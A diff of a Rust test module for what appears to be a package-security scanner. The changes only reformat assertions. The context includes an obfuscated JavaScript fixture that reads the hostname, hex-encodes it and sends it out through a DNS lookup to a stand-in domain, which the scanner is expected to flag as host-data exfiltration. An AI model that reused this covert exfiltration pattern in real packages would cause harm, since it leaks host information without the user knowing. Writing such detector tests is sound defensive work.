@@ -169,7 +169,10 @@ mod tests {
                 "const Module = require('module');\nconst ops = [['lookup', 'dns'], ['hostname', 'os'], ['env', null]];\nconst tbl = ops.map(([a, b]) => (b ? Reflect.apply(Module.prototype.require, module, [b])[a] : process[a]));\nfunction diag() {\n  const h = Buffer.from(Reflect.apply(tbl[1], null, [])).toString('hex');\n  Reflect.apply(tbl[0], null, [`${h}.t.example.invalid`, () => {}]);\n}\nexports.register = () => setImmediate(diag);\n",
             ),
         ]);
-        assert_eq!(hits(&s, "code/host-data-exfiltration"), vec![("index.js".to_string(), 6)]);
+        assert_eq!(
+            hits(&s, "code/host-data-exfiltration"),
+            vec![("index.js".to_string(), 6)]
+        );
     }
 
     /// A reactive store (valtio / @vue/reactivity style): `Proxy` traps and `Reflect.apply`
@@ -183,6 +186,10 @@ mod tests {
                 "exports.reactive = (o, fx) => new Proxy(o, {\n  get(t, k, r) { return Reflect.get(t, k, r); },\n  set(t, k, v, r) { const ok = Reflect.set(t, k, v, r); fx.forEach((f) => Reflect.apply(f, null, [k, v])); return ok; },\n});\n",
             ),
         ]);
-        assert!(s.findings.iter().all(|f| f.severity <= diligence_finding::Severity::Low));
+        assert!(
+            s.findings
+                .iter()
+                .all(|f| f.severity <= diligence_finding::Severity::Low)
+        );
     }
 }
